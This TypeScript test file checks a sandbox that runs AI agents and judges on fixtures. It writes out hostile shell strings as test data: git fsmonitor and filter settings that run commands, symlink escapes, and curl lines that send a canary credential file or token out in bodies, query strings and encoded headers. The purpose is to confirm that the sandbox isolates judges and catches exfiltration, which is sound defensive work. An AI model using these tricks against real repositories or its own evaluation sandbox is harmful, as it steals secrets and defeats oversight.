import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import http from 'node:http';
import path from 'node:path';
import type { ProgramResult } from '../../../../../src/ports/programs.js';
import { treeOf } from '../../../../../src/storage/programs/workplace/workTree.js';
import type { LeftBehind, Workplace, WorkRun, Workplaces } from '../../../../../src/ports/workplace.js';
import { aWorkTree } from '../../../../builders/aWorkTree.js';
import { needsSandbox, saidIn } from '../../../../builders/aSandbox.js';
import { bareWorkplaces, someWorkplaces } from '../../../../builders/someWorkplaces.js';
import { few } from '../../../../builders/few.js';
import { neverAborted } from '../../../../builders/storage.js';
import { aPlan, aRun, at, canaries, keepsContractOfWorkplaces, type Deeds } from './workplacesContract.js';

describe('places for the work of agents', () => {
  let workplaces: Workplaces;
  before(async function () {
    await needsSandbox(this);
    workplaces = someWorkplaces();
  });

  keepsContractOfWorkplaces(() => workplaces, scripted);

  it('shows the agent its fixture and its skill in one commit, and nothing of ours or of other attempts', async () => {
    await at(workplaces, aPlan(), async (place) => {
      await at(workplaces, aPlan(), async () => {
        const looking = `git log --format=%s; git status --short; find . -path ./.git -prune -o -type f -print | sort
          ls -A "$HOME" "$TMPDIR" ../; ls -d "$(dirname "$(dirname "$PWD")")"/whetstone-place-* | wc -l; echo "$DEPLOY_TOKEN"; env | grep -c SANDBOX=`;
        const lines = await linesOf(place, looking);
        assert.deepEqual(lines.slice(0, 4), ['Start', './.agents/skills/dates/SKILL.md', './a.txt', './old.txt']);
        assert.deepEqual(lines.slice(4), [
          '../:',
          'home',
          'tmp',
          'work',
          `${place.folders.home}:`,
          '.config',
          `${place.folders.temporary}:`,
          '1',
          canaries.variable.value,
          '1',
        ]);
      });
    });
  });

  it('has nothing of the skill on the disk in the arm without it', async () => {
    await at(workplaces, aPlan({ skill: undefined }), async (place) => {
      const lines = await linesOf(
        place,
        'find /tmp /home /root -name SKILL.md -path "*dates*" 2>/dev/null; ls -A; git ls-files',
      );
      assert.deepEqual(lines, ['.git', 'a.txt', 'old.txt', 'a.txt', 'old.txt']);
    });
  });

  it('asks no settings, rules or hooks of the agent what it did', async () => {
    const spoiling = `printf '* -diff\\n*.txt filter=x\\n' > .gitattributes; echo '*' > .gitignore; echo new > a.txt; echo hidden > hidden.txt
      git config diff.external /bin/true; git config core.fsmonitor "touch fsmonitor-ran; true"; git config filter.x.clean "touch x"
      git update-index --assume-unchanged a.txt; mkdir nested; git init -q nested; echo in > nested/in.txt
      git commit -q -am mine; rm -f fsmonitor-ran; printf '#!/bin/sh\\ntouch hook-ran\\n' > .git/hooks/post-index-change; chmod +x .git/hooks/*; rm -f fsmonitor-ran x`;
    await at(workplaces, aPlan(), async (place) => {
      const { diff, changed } = await leftBy(place, `mkdir -p .git/hooks; ${spoiling}`);
      assert.deepEqual(
        changed.map((each) => each.path),
        ['.gitattributes', '.gitignore', 'a.txt', 'hidden.txt', 'nested/in.txt'],
      );
      assert.match(diff, /-first\n\+new\n/u);
      assert.match(diff, /\+hidden\n/u);
      assert.match(diff, /\+in\n/u);
    });
  });

  it('leaves out what the rules of the fixture ignore, and what tools leave by the way', async () => {
    const fixture = aWorkTree({
      '.gitignore': 'build/\n',
      'a.txt': '1',
      'kept/build/b.txt': 'b',
      'sub/.gitignore': '/only\n',
    });
    await at(workplaces, aPlan({ fixture }), async (place) => {
      const { changed, diff } = await leftBy(
        place,
        'mkdir -p build __pycache__; echo x | tee build/x __pycache__/y.pyc sub/only only kept/build/b.txt >/dev/null; chmod +x a.txt; rm sub/.gitignore',
      );
      assert.deepEqual(
        changed.map(({ path: name, change }) => `${change} ${name}`),
        ['changed a.txt', 'changed kept/build/b.txt', 'added only', 'deleted sub/.gitignore'],
      );
      assert.match(diff, /old mode 100644\nnew mode 100755/u);
    });
  });

  it('runs a judge on what was left, without network, in a home of its own, with the files that it brings', async () => {
    await served(async (port) => {
      await at(workplaces, aPlan(), async (place) => {
        const spoil = `rm -rf old.txt; ln -s /etc old.txt; mkdir -p tests; ln -s "$HOME/elsewhere" tests/check.sh
          echo 'echo spoilt' > ~/.bashrc; git config alias.x '!echo spoilt'; git config core.fsmonitor 'echo spoilt >&2; true'`;
        const run = script(spoil, { reach: { ports: [port] } });
        await place.run(run, neverAborted);
        const check = `git status --short; git x; ls -A "$HOME"; cat a.txt; curl -s -m 3 http://127.0.0.1:${port}/ || echo closed; echo \${DEPLOY_TOKEN:-none}`;
        const brings = aWorkTree({ 'tests/check.sh*': `#!/bin/sh\n${check}\n`, 'old.txt/deep': 'x' });
        const judged = await place.judge(
          { command: './tests/check.sh', arguments: [], timeLimitMs: 9_000, brings },
          neverAborted,
        );
        assert.match(saidIn(judged), /first\nclosed\nnone\n/u);
        assert.doesNotMatch(saidIn(judged), /spoilt|served|elsewhere/u);
        assert.equal(existsSync('/etc/deep'), false);
        const failing = await place.judge(
          { command: '/bin/sh', arguments: ['-c', 'exit 3'], timeLimitMs: 9_000 },
          neverAborted,
        );
        assert.deepEqual(codeOf(failing), 3);
      });
    });
  });

  it('shows a judge that asks git our commit, and runs nothing that the agent left for git', async () => {
    const ways = [
      `mkdir .evil; cp -r .git/. .evil/; ${evil('')} > .evil/config; echo ../.evil > .git/commondir`,
      `cp -r .git/. .; ${evil(String.raw`\\tworktree = .\\n`)} > config; rm -rf .git`,
      `git add -A; git commit -q -m mine; chmod 0 .git`,
      `cp -r .git sub/.git; ${evil('')} > sub/.git/config; mv .git elsewhere; ln -s elsewhere .git`,
    ];
    const fixture = aWorkTree({ 'a.txt': 'first\n', 'sub/b.txt': 'b\n' });
    for (const way of ways)
      await at(workplaces, aPlan({ fixture }), async (place) => {
        await leftBy(place, `echo changed > a.txt; ${way}`);
        const asking =
          'git diff --name-only; (cd sub; git status --short . ); git log --format=%s; ls OWNED sub/OWNED 2>/dev/null';
        const judged = await place.judge(
          { command: 'sh', arguments: ['-c', asking], timeLimitMs: 9_000 },
          neverAborted,
        );
        assert.equal(saidIn(judged), 'a.txt\nStart\n', way);
      });
  });

  it('has what a judge brings in a folder apart too, where nothing of the agent’s lies beside it', async () => {
    await at(workplaces, aPlan(), async (place) => {
      await leftBy(place, 'echo "echo of the agent" > helper.sh');
      const brings = aWorkTree({
        'check.sh': '. "$(dirname "$0")/own.sh"; cat a.txt; ls "$(dirname "$0")"',
        'own.sh': 'echo own',
      });
      const judged = await place.judge(
        { command: 'sh', arguments: ['-c', 'sh "$JUDGE/check.sh"'], timeLimitMs: 9_000, brings },
        neverAborted,
      );
      assert.equal(saidIn(judged), 'own\nfirst\ncheck.sh\nown.sh\n');
    });
  });

  it('names what was added and is not in the diff, and makes the diff whatever an agent puts in its way', async () => {
    const hiding = `rm -rf .agents; ln -s / .agents; mkdir .GIT node_modules; echo x > .GIT/x; echo x > 'git~1'; echo ö > 'ö"x'
      printf 'BACKDOOR\\0' > nul; head -c 1100000 /dev/zero | tr '\\0' x > large; echo BACKDOOR > node_modules/b.js; echo BACKDOOR > z.txt; mkfifo pipe`;
    await at(workplaces, aPlan(), async (place) => {
      const { diff, notShown } = await leftBy(place, hiding);
      assert.deepEqual(notShown, [
        '.GIT/x (binary or not readable, 2 bytes)',
        'large (too large, 1.0 MB)',
        'nul (binary or not readable, 9 bytes)',
        'pipe (no file)',
      ]);
      for (const line of ['not shown: pipe (no file)', 'ignored: node_modules/b.js', '+BACKDOOR', '+ö'])
        assert.ok(diff.split('\n').includes(line), line);
    });
  });

  it('lets the agent alone reach its hosts, with keys that it does not see, and lists those that were refused', async () => {
    await served(async (port) => {
      await at(workplaces, aPlan(), async (place) => {
        const lines = await linesOf(
          place,
          `echo $API_KEY; curl -s -m 5 http://127.0.0.1:${port}/; echo; ${asks('other.example')} ${asks(`${canaries.host}:8080`).repeat(2)}`,
          { reach: { hosts: [`127.0.0.1:${port}`], secrets: { API_KEY: 'a-real-key-of-32-characters-long' } } },
        );
        assert.match(lines[0] ?? '', /^fake_value_/u);
        assert.equal(lines[1], `served ${port}`);
        const { touched, refusedHosts } = await place.left(lines, neverAborted);
        assert.deepEqual([...refusedHosts].toSorted(), [canaries.host, 'other.example'].toSorted());
        assert.deepEqual(
          touched,
          Array.from({ length: 2 }, () => ({ canary: 'host', seenIn: 'connection' })),
        );
      });
    });
  });

  it('counts a canary as touched that a request carries, in its address, headers or body, and not by a listing', async () => {
    const file = `"$HOME/${canaries.file.path}"`;
    const key = `$(head -1 ${file} | cut -d= -f2)`;
    const cases: readonly (readonly [words: string, carried: readonly string[]])[] = [
      [`--data-binary @${file} $at`, ['file']],
      ['-d "$(env)" $at', []],
      [`"$at?k=${key}"`, ['file']],
      [`-H "X-Key: $(echo ${key} | base64)" $at`, ['file']],
      [`-d "t=$(printf %s "$DEPLOY_TOKEN" | od -An -tx1 -v | tr -d '\\n' | tr ' ' '%')" $at`, ['variable']],
      ['-d hello $at', []],
    ];
    await served(async (port) => {
      for (const [words, carried] of few(cases, 2))
        await at(workplaces, aPlan(), async (place) => {
          const text = `at=http://localhost:${port}/; curl -s -m 5 -x "$HTTP_PROXY" --noproxy '' ${words} > answer`;
          const { touched } = await leftBy(place, text, { reach: { hosts: [`localhost:${port}`] } });
          const expected = carried.map((canary) => ({ canary, seenIn: 'request' }));
          assert.deepEqual(touched, expected, words);
          assert.equal(await readFile(path.join(place.folders.work, 'answer'), 'utf8'), `served ${port}`, words);
        });
    });
  });

  it('knows of a refused connection also where the agent was ended before it ended', async () => {
    await at(workplaces, aPlan(), async (place) => {
      const stop = new AbortController();
      const run = script(`${asks(canaries.host)} echo asked; sleep 60`, {
        onLine: () => stop.abort(new Error('enough')),
      });
      await assert.rejects(place.run(run, stop.signal), /enough/u);
      assert.deepEqual((await place.left([], neverAborted)).touched, [{ canary: 'host', seenIn: 'connection' }]);
    });
  });

  it('counts a canary as touched where it turns up, encoded too, and neither by env nor by ls -la', async () => {
    const cases: readonly (readonly [script: string, touched: readonly string[]])[] = [
      ['env; ls -la ~ ~/.config; export -p; cat /proc/self/environ', []],
      ['cat ~/.config/deploy.ini', ['file transcript']],
      ['env | grep TOKEN', ['variable transcript']],
      ['base64 ~/.config/deploy.ini > b; rev ~/.config/deploy.ini > ~/r', ['file diff', 'file files']],
      ['cp ~/.config/deploy.ini $TMPDIR/x', ['file files']],
      ['cp ~/.config/deploy.ini x; git add x; rm x', ['file files']],
      [
        'echo $DEPLOY_TOKEN | xxd -p > x || printf %s $DEPLOY_TOKEN | od -An -tx1 | tr -d " \\n" > x',
        ['variable diff', 'variable files'],
      ],
    ];
    for (const [line, expected] of few(cases, 2))
      await at(workplaces, aPlan(), async (place) => {
        const lines = await linesOf(place, line);
        const { touched } = await place.left([lines.join('\n')], neverAborted);
        assert.deepEqual(
          touched.map(({ canary, seenIn }) => `${canary} ${seenIn}`),
          expected,
          line,
        );
      });
  });

  it('reads files that the program leaves in its home, and gives it those that it needs there', async () => {
    await at(workplaces, aPlan(), async (place) => {
      const run = script(
        'cat ~/.given/key > ~/usage.json',
        {},
        { files: { '.given/key': 'k' }, leaves: ['usage.json'] },
      );
      assert.deepEqual(await place.run(run, neverAborted), { kind: 'exited', code: 0, left: { 'usage.json': 'k' } });
    });
  });

  it('is gone when it is closed, whatever became of its permissions', async () => {
    const place = await workplaces.open(aPlan(), neverAborted);
    await place.run(script('mkdir -p x/y; chmod 0 x .'), neverAborted);
    const folder = path.dirname(place.folders.work);
    assert.ok(existsSync(folder));
    await place.close();
    assert.equal(existsSync(folder), false);
  });

  it('is found nowhere without a sandbox, but on a machine that is declared one that is thrown away', async () => {
    const missing = { kind: 'missing', programs: ['bubblewrap'], install: 'sudo apt-get install bubblewrap' } as const;
    const none = someWorkplaces({ sandboxState: async () => missing });
    assert.deepEqual(await none.state(neverAborted), { kind: 'none', sandbox: missing });
    await assert.rejects(none.open(aPlan(), neverAborted), {
      code: 'environment-refused',
      cure: /apt-get install bubblewrap/u,
    });
    const bare = bareWorkplaces();
    assert.deepEqual(await bare.state(neverAborted), { kind: 'throw-away' });
    await at(bare, aPlan(), async (place) => {
      const { changed } = await leftBy(place, 'echo "$API_KEY" > key.txt', { reach: { secrets: { API_KEY: 'k' } } });
      assert.deepEqual(changed, [{ path: 'key.txt', change: 'added' }]);
      assert.equal(
        saidIn(await place.judge({ command: 'cat', arguments: ['key.txt'], timeLimitMs: 5_000 }, neverAborted)),
        'k\n',
      );
    });
  });

  it('installs no skill through a link of the fixture, and has the same fixture without the skill', async () => {
    const { entries } = aWorkTree({ 'a.txt': 'a', 'elsewhere/other/x': 'x' });
    const fixture = treeOf([...entries, { kind: 'link', path: '.agents/skills', to: '../elsewhere' }]);
    const looking =
      'find . -path ./.git -prune -o ! -type d -print | sort; find . -path ./.git -prune -o -type l -print';
    await at(bareWorkplaces(), aPlan({ fixture }), async (place) => {
      const lines = await linesOf(place, looking);
      assert.deepEqual(lines, ['./.agents/skills/dates/SKILL.md', './a.txt', './elsewhere/other/x']);
    });
    await at(bareWorkplaces(), aPlan({ fixture, skill: undefined }), async (place) => {
      assert.deepEqual(await linesOf(place, looking), ['./a.txt', './elsewhere/other/x']);
    });
  });
});

/** Writes settings by which git runs a program. */
const evil = (work: string): string =>
  `printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n${work}\\tfsmonitor = "echo first > a.txt; touch OWNED; false"\\n'`;

function asks(host: string): string {
  return `curl -s -m 5 -o /dev/null "http://${host}/";`;
}

/** A shell as an agent. */
function script(text: string, more: Partial<WorkRun> = {}, start: Parameters<typeof aRun>[0] = {}): WorkRun {
  return aRun({ arguments: ['-c', text], ...start }, more);
}

function scripted({ says = [], writes = {}, removes = [], waits = false }: Deeds): WorkRun {
  const writing = Object.entries(writes).map(
    ([name, text]) => `mkdir -p "$(dirname '${name}')"; printf '%s' '${text}' > '${name}'`,
  );
  const saying = says.map((line) => `echo '${line}'`);
  const lines = [...writing, ...removes.map((name) => `rm '${name}'`), ...saying, ...(waits ? ['sleep 60'] : [])];
  return script(lines.join('\n'));
}

async function linesOf(place: Workplace, text: string, more: Partial<WorkRun> = {}): Promise<readonly string[]> {
  const lines: string[] = [];
  await place.run(
    script(text, { ...more, onLine: (line, from) => void (from === 'output' && lines.push(line)) }),
    neverAborted,
  );
  return lines;
}

async function leftBy(place: Workplace, text: string, more: Partial<WorkRun> = {}): Promise<LeftBehind> {
  await place.run(script(text, more), neverAborted);
  return place.left([], neverAborted);
}

function codeOf(result: ProgramResult): number | undefined {
  return result.kind === 'exited' ? result.code : undefined;
}

async function served(work: (port: number) => Promise<void>): Promise<void> {
  const server = http.createServer((_, response) => response.end(`served ${port()}`));
  const port = (): number => {
    const address = server.address();
    return typeof address === 'object' && address !== null ? address.port : 0;
  };
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  try {
    await work(port());
  } finally {
    server.close();
  }
}
